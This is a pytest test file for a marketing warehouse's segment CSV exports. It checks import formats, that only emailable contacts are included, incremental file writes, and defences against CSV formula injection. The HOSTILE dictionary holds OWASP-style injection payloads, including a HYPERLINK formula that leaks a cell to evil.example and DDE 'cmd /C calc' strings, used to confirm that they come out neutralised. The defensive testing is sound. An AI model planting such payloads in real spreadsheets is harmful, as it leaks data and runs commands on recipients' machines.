"""The segment files of the exports (models/exports) on the demo build: import-ready for each tool (exact header
line, delimiter, UTF-8, one row per emailable member), nothing but emailable people (compared with dim_contacts),
and spreadsheet-safe (hostile values written by hand into a copy of the warehouse come out neutralised)."""
from __future__ import annotations

import csv
import json
import os
import shutil
from pathlib import Path

import duckdb
import pytest

from conftest import DEMO_DIR, Warehouse, dbt_vars, run_dbt
from segwarehouse.activation import MANIFEST, export_files_to_write, record_export_files

# tool folder -> (delimiter, header line, columns of export_segment_members the file's columns hold)
FORMATS = {
    "brevo": (";", "EMAIL;FIRSTNAME;LASTNAME;EXT_ID", ["email", "first_name", "last_name", "contact_id"]),
    "mailchimp": (",", "Email Address,First Name,Last Name,Tags", ["email", "first_name", "last_name", "segment_name"]),
    "segments": (",", "segment_name,contact_id,company_id,customer_type,email,first_name,last_name,company_name,"
                 "job_title,city,region,next_send_at,email_legal_basis",
                 ["segment_name", "contact_id", "company_id", "customer_type", "email", "first_name", "last_name",
                  "company_name", "job_title", "city", "region", "next_send_at", "email_legal_basis"]),
}

# Hand-written hostile values (OWASP CSV injection): each starts with a character a spreadsheet runs as a formula.
HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "last_name": "+cmd|' /C calc'!A0",
    "company_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "job_title": "-2+3+cmd|' /C calc'!A0",
    "city": "\t=1+1",
    "region": "\r=1+1",
}
HOSTILE_EMAIL = "=1+1@evil.example"


def read_export(path: Path, delimiter: str) -> tuple[str, list[list[str]]]:
    """The header line as written and the records parsed back by the csv module (UTF-8, strict)."""
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf"), f"{path.name}: no byte-order mark"
    text = raw.decode("utf-8")
    header = text.split("\n", 1)[0]
    with path.open(newline="", encoding="utf-8") as handle:
        records = list(csv.reader(handle, delimiter=delimiter))
    return header, records[1:]


def export_rows(warehouse: Warehouse, segment: str, columns: list[str]) -> list[list[str]]:
    """export_segment_members rows of a segment as the CSV writes them (null -> empty, timestamps ISO)."""
    select = ", ".join(f"coalesce(cast({column} as varchar), '')" for column in columns)
    return [list(row) for row in warehouse.query(
        f"select {select} from exports.export_segment_members where segment_name = '{segment}'")]


@pytest.fixture(scope="module")
def catalogue(demo_warehouse: Warehouse) -> dict[str, int]:
    return dict(demo_warehouse.query("select segment_name, reachable_count from segments.segment_catalog"))


@pytest.mark.parametrize("tool", sorted(FORMATS))
def test_files_are_import_ready(demo_warehouse: Warehouse, catalogue: dict[str, int], tool: str) -> None:
    """One file per segment, nothing else; the tool's exact header line; every record parses back with the tool's
    delimiter to the header's number of fields and to the rows of the export model."""
    delimiter, header_line, columns = FORMATS[tool]
    folder = demo_warehouse.exports_dir / tool
    assert sorted(path.name for path in folder.iterdir() if path.suffix == ".csv") == sorted(
        f"{segment}.csv" for segment in catalogue)
    for segment, reachable in catalogue.items():
        header, records = read_export(folder / f"{segment}.csv", delimiter)
        assert header == header_line, (tool, segment)
        assert len(records) == reachable, (tool, segment)
        assert all(len(record) == len(columns) for record in records), (tool, segment)
        assert sorted(records) == sorted(export_rows(demo_warehouse, segment, columns)), (tool, segment)
    assert sum(catalogue.values()) > 10_000
    if tool == "mailchimp":
        tags = {record[3] for segment in catalogue for record in read_export(folder / f"{segment}.csv", ",")[1]}
        assert tags == {segment for segment, reachable in catalogue.items() if reachable}


def test_parquet_files_hold_the_csv_rows(demo_warehouse: Warehouse, catalogue: dict[str, int]) -> None:
    folder = demo_warehouse.exports_dir / "segments"
    with duckdb.connect() as connection:
        for segment in catalogue:
            parquet = connection.execute(
                f"select * from read_parquet('{folder / segment}.parquet') order by contact_id").fetchall()
            assert [tuple("" if value is None else str(value) for value in row) for row in parquet] == [
                tuple(record) for record in read_export(folder / f"{segment}.csv", ",")[1]], segment


def test_files_hold_only_emailable_members(demo_warehouse: Warehouse, catalogue: dict[str, int]) -> None:
    """Every emailable member of every segment is in the segment's files, and nobody else: compared with
    dim_contacts.is_emailable and segment_membership, by address (Brevo, Mailchimp) and by contact id."""
    emailable = {email: contact for contact, email in demo_warehouse.query(
        "select contact_id, email from marts.dim_contacts where is_emailable")}
    not_emailable = {row[0] for row in demo_warehouse.query(
        "select email from marts.dim_contacts where not is_emailable and email is not null")}
    assert emailable and not_emailable
    expected = {}
    for segment, contact in demo_warehouse.query(
            "select membership.segment_name, membership.contact_id from segments.segment_membership as membership "
            "inner join marts.dim_contacts as contacts on membership.contact_id = contacts.contact_id "
            "where contacts.is_emailable"):
        expected.setdefault(segment, set()).add(contact)
    for segment in catalogue:
        brevo = read_export(demo_warehouse.exports_dir / "brevo" / f"{segment}.csv", ";")[1]
        mailchimp = read_export(demo_warehouse.exports_dir / "mailchimp" / f"{segment}.csv", ",")[1]
        generic = read_export(demo_warehouse.exports_dir / "segments" / f"{segment}.csv", ",")[1]
        assert {emailable.get(email) for email, *_ in brevo} == expected.get(segment, set()), segment
        assert {ext_id for *_, ext_id in brevo} == expected.get(segment, set()), segment
        assert {emailable.get(email) for email, *_ in mailchimp} == expected.get(segment, set()), segment
        assert {record[1] for record in generic} == expected.get(segment, set()), segment
        assert not {record[0] for record in brevo + mailchimp} & not_emailable, segment


def file_states(folder: Path) -> dict[str, tuple[int, bytes]]:
    """Every file under `folder` (path relative to it) with its modification time and content."""
    return {str(path.relative_to(folder)): (path.stat().st_mtime_ns, path.read_bytes())
            for path in sorted(folder.rglob("*")) if path.is_file()}


@pytest.fixture(scope="module")
def hostile_exports(demo_warehouse: Warehouse, tmp_path_factory: pytest.TempPathFactory) -> dict:
    """A copy of the demo warehouse where three emailable members of seg_rfm_loyal get the hostile values (one also
    a hostile address), then `dbt run` of the export models only, into a copy of the demo build's exports folder
    (modification times kept) where, by hand, one file was deleted, one edited, one left by a dropped segment and
    one that is not a segment file added."""
    folder = tmp_path_factory.mktemp("hostile")
    path, exports_dir = folder / "warehouse.duckdb", folder / "exports"
    shutil.copy(demo_warehouse.path, path)
    with duckdb.connect(str(path)) as connection:
        contacts = [row[0] for row in connection.execute(
            "select contacts.contact_id from segments.segment_membership as membership "
            "inner join marts.dim_contacts as contacts on membership.contact_id = contacts.contact_id "
            "where membership.segment_name = 'seg_rfm_loyal' and contacts.is_emailable "
            "order by contacts.contact_id limit 3").fetchall()]
        assignments = ", ".join(f"{column} = ?" for column in HOSTILE)
        connection.execute(f"update marts.dim_contacts set {assignments} where contact_id in (?, ?, ?)",
                           [*HOSTILE.values(), *contacts])
        connection.execute("update marts.dim_contacts set email = ? where contact_id = ?", [HOSTILE_EMAIL, contacts[0]])
        segments_of_contacts = {row[0] for row in connection.execute(
            "select distinct segment_name from segments.segment_membership where contact_id in (?, ?, ?)",
            contacts).fetchall()}
        # the largest segment none of them is in: its files are edited and deleted by hand
        untouched = next(segment for (segment,) in connection.execute(
            "select segment_name from segments.segment_catalog order by reachable_count desc, segment_name").fetchall()
            if segment not in segments_of_contacts)
    shutil.copytree(demo_warehouse.exports_dir, exports_dir)
    (exports_dir / "brevo" / f"{untouched}.csv").unlink()
    with (exports_dir / "mailchimp" / f"{untouched}.csv").open("a", encoding="utf-8") as edited:
        edited.write(f"someone@else.example,Not,Member,{untouched}\n")
    (exports_dir / "segments" / "seg_dropped_long_ago.csv").write_text("segment_name\n", encoding="utf-8")
    (exports_dir / "segments" / "README.txt").write_text("kept\n", encoding="utf-8")
    before = file_states(exports_dir)
    run = run_dbt(["run", "--select", "export_segment_members+",
                   "--vars", dbt_vars(DEMO_DIR, exports_dir=exports_dir)], env={"SEGMENTS_DUCKDB_PATH": str(path)})
    return {"contacts": contacts, "exports_dir": exports_dir, "before": before, "after": file_states(exports_dir),
            "segments_of_contacts": segments_of_contacts, "untouched": untouched, "log": run.output}


def test_hostile_values_come_out_neutralised(hostile_exports: dict) -> None:
    """Each hostile value is written with a single quote in front, and parses back to exactly that (the tab and
    carriage return included): a spreadsheet shows it as text. Checked in the files of all three exports."""
    contacts, folder = hostile_exports["contacts"], hostile_exports["exports_dir"]
    safe = {column: "'" + value for column, value in HOSTILE.items()}
    _, generic = read_export(folder / "segments" / "seg_rfm_loyal.csv", ",")
    by_contact = {record[1]: dict(zip(FORMATS["segments"][2], record)) for record in generic}
    for contact in contacts:
        assert {column: by_contact[contact][column] for column in HOSTILE} == safe
    assert by_contact[contacts[0]]["email"] == "'" + HOSTILE_EMAIL
    _, brevo = read_export(folder / "brevo" / "seg_rfm_loyal.csv", ";")
    brevo_rows = {record[3]: record for record in brevo}
    assert [brevo_rows[contact][1:3] for contact in contacts] == [[safe["first_name"], safe["last_name"]]] * 3
    assert brevo_rows[contacts[0]][0] == "'" + HOSTILE_EMAIL
    _, mailchimp = read_export(folder / "mailchimp" / "seg_rfm_loyal.csv", ",")
    assert sum(record[1:3] == [safe["first_name"], safe["last_name"]] for record in mailchimp) == 3
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for tool, (delimiter, _, _) in FORMATS.items():
        for path in (folder / tool).glob("*.csv"):
            for record in read_export(path, delimiter)[1]:
                assert not any(field.startswith(dangerous) for field in record), (tool, path.name, record)


def test_only_the_files_whose_rows_changed_are_written(hostile_exports: dict, catalogue: dict[str, int]) -> None:
    """Starting from the demo build's folder, the run writes again exactly: the files of the segments the three
    changed people are members of (CSV and Parquet), the file deleted and the file edited by hand. Every other
    segment file keeps its bytes and its modification time; the dropped segment's file is removed, the file that
    is not a segment file is kept, and the manifest lists every segment file as written."""
    before, after, folder = hostile_exports["before"], hostile_exports["after"], hostile_exports["exports_dir"]
    changed_segments = hostile_exports["segments_of_contacts"]
    assert "seg_rfm_loyal" in changed_segments and len(changed_segments) < len(catalogue) / 2
    expected = {f"{tool}/{segment}.csv" for tool in FORMATS for segment in changed_segments}
    expected |= {f"segments/{segment}.parquet" for segment in changed_segments}
    untouched = hostile_exports["untouched"]
    expected |= {f"brevo/{untouched}.csv", f"mailchimp/{untouched}.csv"}
    segment_files = {name for name in after if name.rsplit("/", 1)[-1].startswith("seg_")}
    assert segment_files == {f"{tool}/{segment}.csv" for tool in FORMATS for segment in catalogue} | {
        f"segments/{segment}.parquet" for segment in catalogue}
    written = {name for name in segment_files if before.get(name, (None, None))[0] != after[name][0]}
    assert written == expected
    assert all(after[name] == before[name] for name in segment_files - written)
    assert untouched not in changed_segments
    assert b"someone@else.example" not in after[f"mailchimp/{untouched}.csv"][1]
    assert after["segments/README.txt"] == before["segments/README.txt"]
    for tool in FORMATS:
        manifest = json.loads((folder / tool / MANIFEST).read_text(encoding="utf-8"))
        assert sorted(manifest) == sorted(name.split("/", 1)[1] for name in segment_files if name.startswith(tool + "/"))
    brevo_written = len({name for name in expected if name.startswith("brevo/")})
    assert f"export_brevo: {brevo_written} of {len(catalogue)} segment files changed" in hostile_exports["log"]


def test_the_manifest_says_which_files_to_write(tmp_path: Path) -> None:
    """segwarehouse.activation on a folder by hand: everything on the first build; nothing when the fingerprints are
    the same; a changed fingerprint, a missing file, an edited file (size) and a touched file (modification time)
    are written; a segment no longer wanted loses its file; a file that is not a segment file stays."""
    folder = tmp_path / "brevo"
    wanted = {"seg_a.csv": "f1", "seg_b.csv": "f2", "seg_c.csv": "f3", "seg_d.csv": "f4", "seg_e.csv": "f5"}

    def build(files: dict[str, str]) -> list[str]:
        to_write = json.loads(export_files_to_write(str(folder), json.dumps(files)))
        for name in to_write:
            assert not (folder / name).exists()  # removed before it is written
            (folder / name).write_text(f"{name} {files[name]}\n", encoding="utf-8")
        assert record_export_files(str(folder), json.dumps(files)) == str(len(files))
        return to_write

    assert build(wanted) == sorted(wanted)
    (folder / "notes.txt").write_text("mine\n", encoding="utf-8")
    assert build(wanted) == []
    (folder / "seg_b.csv").unlink()
    with (folder / "seg_c.csv").open("a", encoding="utf-8") as edited:
        edited.write("more\n")
    stat = (folder / "seg_d.csv").stat()
    os.utime(folder / "seg_d.csv", ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000))
    changed = {**wanted, "seg_a.csv": "f1 changed"}
    del changed["seg_e.csv"]
    assert build(changed) == ["seg_a.csv", "seg_b.csv", "seg_c.csv", "seg_d.csv"]
    assert sorted(path.name for path in folder.iterdir()) == [
        ".segment_files.json", "notes.txt", "seg_a.csv", "seg_b.csv", "seg_c.csv", "seg_d.csv"]
    manifest = json.loads((folder / ".segment_files.json").read_text(encoding="utf-8"))
    assert {name: entry["fingerprint"] for name, entry in manifest.items()} == changed
    assert build(changed) == []
